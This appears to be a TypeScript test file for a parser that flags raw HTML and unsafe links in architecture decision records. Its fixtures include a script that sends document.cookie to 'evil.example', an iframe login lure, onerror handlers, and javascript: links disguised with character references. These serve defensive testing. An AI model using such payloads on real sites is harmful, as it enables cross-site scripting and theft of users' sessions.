import { parseAdr } from './parseAdr';

const header = '# Use a message broker\n\nStatus: accepted\n\n## Context\n\n';

function problemsOf(body: string) {
  return parseAdr(`${header}${body}`, { path: '0012-use-a-broker.md' }).problems;
}

// Lines of the body start after the six lines of the header.
const line = (n: number) => 6 + n;

describe('raw HTML and unsafe links in a record', () => {
  it('reports each kind once, with its line: script, iframe, event handler and javascript: link', () => {
    const problems = problemsOf(
      [
        'We compared brokers.',
        '',
        '<script>fetch("https://evil.example/" + document.cookie)</script>',
        '',
        '<iframe src="https://evil.example/login"></iframe>',
        '',
        '<img src="diagram.png" onerror="alert(1)">',
        '',
        'See [the benchmark](javascript:alert(document.domain)).',
        '',
      ].join('\n'),
    );
    expect(problems).toEqual([
      {
        severity: 'warning',
        message: 'Contains a <script> tag; it is shown as text and never run',
        line: line(3),
      },
      {
        severity: 'warning',
        message: 'Contains an embedding element (<iframe>); it is shown as text and never loads anything',
        line: line(5),
      },
      {
        severity: 'warning',
        message: 'Contains an event-handler attribute (onerror=); it is shown as text and never run',
        line: line(7),
      },
      {
        severity: 'warning',
        message: 'Link to "javascript:alert(document.domain)" uses an unsafe scheme; it is not rendered as a link',
        line: line(9),
      },
    ]);
  });

  it('finds no problem in a clean record, even one that shows HTML in code', () => {
    const problems = problemsOf(
      [
        'We compared [three brokers](https://example.com/brokers) and [our notes](./notes.md).',
        '',
        'Writing `<script>` or `onclick=` in code is fine:',
        '',
        '```html',
        '<iframe src="x" onload="y"></iframe><a href="javascript:z">z</a>',
        '```',
        '',
      ].join('\n'),
    );
    expect(problems).toEqual([]);
  });

  it('counts several of one kind in one problem that lists their lines', () => {
    const problems = problemsOf(
      [
        '<script>one()</script>',
        '',
        '<script src="two.js"></script>',
        '',
        '<object data="x.swf"></object>',
        '<embed src="y.swf">',
        '',
        '<p onclick="a()">Click</p>',
        '',
        '<div',
        '  onmouseover="b()">Hover</div>',
        '',
        '[one](javascript:a()) and [two](data:text/html,hi)',
        '',
      ].join('\n'),
    );
    expect(problems.map(p => [p.message, p.line])).toEqual([
      [
        'Contains 2 <script> tags on lines 7 and 9; they are shown as text and never run',
        line(1),
      ],
      [
        'Contains 2 embedding elements (<object>, <embed>) on lines 11 and 12; they are shown as text and never load anything',
        line(5),
      ],
      [
        'Contains 2 event-handler attributes (onclick=, onmouseover=) on lines 14 and 17; they are shown as text and never run',
        line(8),
      ],
      [
        '2 links use an unsafe scheme (javascript:, data:), the first "javascript:a()"; they are not rendered as links',
        line(13),
      ],
    ]);
  });

  it('sees javascript: in HTML attributes, also when hidden behind character references', () => {
    const problems = problemsOf(
      [
        'Read <a href="jav&#x61;script&colon;alert(1)">this</a>.',
        '',
        "<form action=' javascript:send()'><button>Go</button></form>",
        '',
      ].join('\n'),
    );
    expect(problems.map(p => [p.message, p.line])).toEqual([
      [
        '2 links use an unsafe scheme (javascript:) on lines 7 and 9, the first "jav&#x61;script&colon;alert(1)"; they are not rendered as links',
        line(1),
      ],
    ]);
  });

  it('calls other raw HTML what it is, once', () => {
    const problems = problemsOf(
      '<details>\n<summary>More</summary>\n\nText.\n</details>\n\nA<br>B <a href="&#x7FFFFFF;">c</a>\n',
    );
    expect(problems).toEqual([
      {
        severity: 'warning',
        message: 'Contains raw HTML; it is shown as text, not rendered',
        line: line(1),
      },
    ]);
  });
});
